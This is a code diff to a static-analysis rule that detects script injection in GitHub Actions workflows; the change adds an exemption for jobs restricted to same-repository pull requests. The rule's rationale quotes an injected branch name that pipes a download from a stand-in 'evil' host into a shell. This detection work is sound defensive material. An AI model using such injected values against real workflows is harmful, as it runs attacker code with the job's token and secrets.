@@ -1,7 +1,7 @@
 import { defineRule } from '@plumbline/core';
 import { allSteps, ghaDomain } from '@plumbline/lang-yaml';
 import { taints } from '../../lib/taint.js';
-import { resourceOf } from '../../lib/util.js';
+import { resourceOf, sameRepoOnly } from '../../lib/util.js';
 import { envFix } from './fix.js';
 
 export default defineRule({
@@ -12,7 +12,7 @@ export default defineRule({
     description:
       'A `${{ }}` expression whose text an outsider chooses (an issue or pull request title or body, a branch name, a comment, a commit message, or an `env:`/step output derived from one) is pasted into a `run:` script before the shell sees it.',
     rationale:
-      'GitHub substitutes `${{ }}` into the script text, so a branch named `a";curl evil|sh;"` or a title with `$(…)` becomes shell code running with the job token and secrets. This is the most exploited GitHub Actions weakness; high because the attacker needs nothing more than a fork or an issue.',
+      'GitHub substitutes `${{ }}` into the script text, so a branch named `a";curl evil|sh;"` or a title with `$(…)` becomes shell code running with the job token and secrets. This is the most exploited GitHub Actions weakness; high because the attacker needs nothing more than a fork or an issue. Not reported in a job or step guarded by `github.event.pull_request.head.repo.full_name == github.repository` (or `head.repo.fork == false`): only people who can push branches here reach it, and they can change the workflow anyway.',
     remediation:
       'Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`. Never paste untrusted text into the script itself.',
     category: 'security',
@@ -58,7 +58,7 @@ jobs:
   },
   check(unit, ctx) {
     for (const step of allSteps(unit)) {
-      if (!step.run) continue;
+      if (!step.run || sameRepoOnly(step.job, step)) continue;
       const found = step.run.expressions.flatMap((expression) => {
         const taint = taints(expression, step)[0];
         return taint ? [{ expression, taint }] : [];
